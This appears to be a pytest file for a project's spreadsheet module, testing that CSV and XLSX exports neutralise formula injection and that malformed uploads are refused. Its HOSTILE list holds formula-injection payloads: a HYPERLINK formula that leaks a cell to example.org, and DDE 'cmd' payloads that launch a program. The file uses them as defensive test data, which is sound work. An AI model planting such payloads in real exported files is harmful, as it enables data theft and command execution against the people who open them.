"""The one module that writes and reads CSV and XLSX: formulas guarded, files read whole or refused."""

from __future__ import annotations

import ast
import codecs
import io
from collections.abc import Iterator, Sequence
from pathlib import Path

import pytest
from django.utils import translation
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from strom.core.numbers import whole_number
from strom.core.spreadsheets import (
    TRIGGERS,
    CsvWriter,
    FileRejected,
    Limits,
    RowError,
    XlsxWriter,
    neutralise,
    read_csv,
    restore,
)

HOSTILE = [
    '=HYPERLINK("https://example.org/?leak="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\uff1d1+2",
    "'=1+2",  # already quoted: gets a quote of its own, so reading it back gives it exactly
]


@pytest.fixture(autouse=True)
def english() -> Iterator[None]:
    with translation.override("en"):
        yield


def csv_bytes(rows: Sequence[Sequence[object]]) -> bytes:
    out = io.StringIO()
    CsvWriter(out).writerows(rows)
    return out.getvalue().encode()


def records(data: bytes, limits: Limits | None = None) -> list[dict[str, str]]:
    return [r.values for r in read_csv(data, limits=limits)]


def refused(data: bytes, limits: Limits | None = None) -> list[RowError]:
    with pytest.raises(FileRejected) as caught:
        list(read_csv(data, limits=limits))
    return caught.value.errors


# -- writing --------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_would_start_a_formula_is_written_after_a_single_quote(text: str) -> None:
    written = csv_bytes([["name"], [text]]).decode()
    value = written.split("\n", 1)[1]
    assert value.lstrip('"').startswith("'"), value
    assert value.lstrip('"')[1:].startswith(text[:1])


def test_numbers_stay_numbers_and_harmless_text_is_unchanged() -> None:
    written = csv_bytes([[-5, 2.5, 0, None, "Riga shelter", "'s-Hertogenbosch", "a=b"]]).decode()
    assert written == "-5,2.5,0,,Riga shelter,'s-Hertogenbosch,a=b\n"


@given(st.text())
def test_restore_undoes_neutralise_and_nothing_written_starts_a_formula(text: str) -> None:
    guarded = neutralise(text)
    assert restore(guarded) == text
    assert not guarded or guarded[0] not in TRIGGERS


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.lists(
            st.text(st.characters(blacklist_characters="\x00", blacklist_categories=["Cs"])),
            min_size=3,
            max_size=3,
        ),
        min_size=1,
        max_size=5,
    )
)
def test_what_the_writer_writes_the_reader_reads_back_exactly(rows: list[list[str]]) -> None:
    kept = [row for row in rows if any(value.strip() for value in row)]  # empty rows are skipped
    assert records(csv_bytes([["a", "b", "c"], *rows])) == [
        dict(zip("abc", row, strict=True)) for row in kept
    ]


def test_xlsx_text_is_a_text_cell_marked_like_a_typed_quote_and_numbers_are_numbers() -> None:
    book = XlsxWriter()
    sheet = book.sheet("table")
    sheet.writerow(HOSTILE)
    sheet.writerow([-5, "plain", "bell\x07"])
    cells = load_workbook(io.BytesIO(book.getvalue())).active
    for cell, text in zip(cells[1], HOSTILE, strict=True):
        assert cell.data_type == "s", text
        assert cell.quotePrefix, text
        assert cell.value == text.replace("\r", "\n") or cell.value == text
    number, plain, bell = cells[2][:3]
    assert (number.value, number.data_type) == (-5, "n")
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("plain", "s", False)
    assert bell.value == "bell\ufffd"  # XLSX cannot hold the control character


# -- reading --------------------------------------------------------------------------------------

GOOD = "name,count\nRiga,3\nTartu,4\n"
EXPECTED = [{"name": "Riga", "count": "3"}, {"name": "Tartu", "count": "4"}]


@pytest.mark.parametrize(
    "data",
    [
        GOOD.encode(),
        codecs.BOM_UTF8 + GOOD.encode(),
        GOOD.encode("utf-16"),  # with its byte order mark
        codecs.BOM_UTF16_BE + GOOD.encode("utf-16-be"),
        GOOD.replace("\n", "\r\n").encode(),
        GOOD.replace(",", ";").encode(),  # as spreadsheets in many European locales save CSV
        ("\n\n" + GOOD + ",\n\n").encode(),  # empty lines and an empty row are not records
    ],
)
def test_the_accepted_encodings_and_layouts_read_the_same(data: bytes) -> None:
    assert records(data) == EXPECTED


@pytest.mark.parametrize(
    ("data", "row", "why"),
    [
        ("name,count\nRīga,3\n".encode("iso8859_13"), 2, "STROM reads text in UTF-8"),
        ("name,count\nRiga,3\n".encode("utf-16-le"), 1, "NUL character"),  # UTF-16 without its mark
        ("name,count\nRiga,3\n".encode("utf-32"), 1, "UTF-32"),
        (b"name,count\nRi\x00ga,3\n", 2, "NUL character"),
        (b'name,count\nRiga,3\nNEWSVC_TRUNC,"desc,,,\n', 3, "ends inside a quoted value"),
        (b'name,count\n"Riga"x,3\n', 2, "not valid CSV"),
        (b"", 1, "empty"),
    ],
)
def test_a_file_that_cannot_be_read_is_refused_with_where_and_why(data: bytes, row: int, why: str) -> None:
    [error] = refused(data)
    assert error.row == row
    assert why in error.why
    if "encoding" in why or "UTF" in why:
        assert "UTF-16 with a byte order mark" in error.why
        assert "save the file as “CSV UTF-8”" in error.why


def test_ragged_rows_and_long_values_are_all_reported_and_no_record_is_given() -> None:
    data = ("name,count\nRiga,3\nTartu\nValga,1,2\nOslo," + "9" * 300 + "\n").encode()
    errors = refused(data, Limits(max_field=100))
    assert [(e.row, e.column) for e in errors] == [(3, ""), (4, ""), (5, "count")]
    assert "has 1 values; the header has 2" in errors[0].why
    assert errors[2].value == "9" * 80 + "…"  # shown cut short


def test_a_200_kb_value_and_a_long_line_are_refused() -> None:
    [error] = refused(b"name,count\nRiga," + b"x" * 200_000 + b"\n")
    assert error.row == 2
    assert error.why == "A line is longer than 100000 characters."
    [quoted] = refused(b'name,count\nRiga,"' + b"x\n" * 70_000 + b'"\n')
    assert quoted.why == "A value is too long."


def test_a_column_named_twice_or_not_at_all_is_refused() -> None:
    errors = refused(b"name,name,\n1,2,3\n")
    assert {e.why for e in errors} == {"Column 3 has no name.", "This column appears more than once."}


def test_values_are_shown_safely() -> None:
    error = RowError(2, "name", "\x1b[31mred\u202e\x00" + "x" * 200, "why")
    assert error.value.startswith("\\x1b[31mred\\u202e\\x00xxx")
    assert error.value.endswith("…")
    assert str(error).startswith("row 2, column name, value “\\x1b[31mred")


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("2019", 2019),
        ("0", 0),
        ("\uff12\uff10\uff11\uff19", None),  # full-width digits
        ("²", None),
        ("١٢", None),
        ("-1", None),
        ("9" * 19, None),
        (" 1", None),
    ],
)
def test_numbers_are_ascii_digits_only(text: str, number: int | None) -> None:
    assert whole_number(text) == number


# -- every writer and reader uses this module -----------------------------------------------------

ROOT = Path(__file__).resolve().parents[2]  # the strom package
DIRECT = {"writer", "DictWriter", "reader", "DictReader"}
# Reads a data file shipped with STROM, never a file a user gives.
SHIPPED_DATA = {
    "core/countries.py": {"DictReader"},
    # The bulk import of persons reads a million rows in a stream, row by row, with flat memory; the
    # guarded readers hold the whole file. It only reads (no cell it writes can start a formula) and
    # checks every value itself (strom/linkage/importer.py).
    "linkage/importer.py": {"reader", "openpyxl"},
}


def direct_uses(path: Path) -> set[str]:
    found = set()
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv":
            if node.attr in DIRECT:
                found.add(node.attr)
        elif isinstance(node, ast.ImportFrom) and node.module:
            if node.module == "csv":
                found |= {a.name for a in node.names if a.name in DIRECT}
            if node.module.split(".")[0] == "openpyxl":
                found.add("openpyxl")
        elif isinstance(node, ast.Import):
            found |= {"openpyxl" for a in node.names if a.name.split(".")[0] == "openpyxl"}
    return found


def test_no_module_writes_or_reads_csv_or_xlsx_past_the_guarded_helpers() -> None:
    offenders = {}
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT).as_posix()
        if "/tests/" in f"/{relative}" or relative == "core/spreadsheets.py" or "/migrations/" in relative:
            continue
        uses = direct_uses(path) - SHIPPED_DATA.get(relative, set())
        if uses:
            offenders[relative] = sorted(uses)
    assert offenders == {}, "use strom.core.spreadsheets (CsvWriter, XlsxWriter, read_csv) instead"


def test_the_guard_sees_a_direct_use(tmp_path: Path) -> None:
    module = tmp_path / "export.py"
    module.write_text("import csv\nfrom openpyxl import Workbook\nw = csv.writer(out)\n")
    assert direct_uses(module) == {"writer", "openpyxl"}
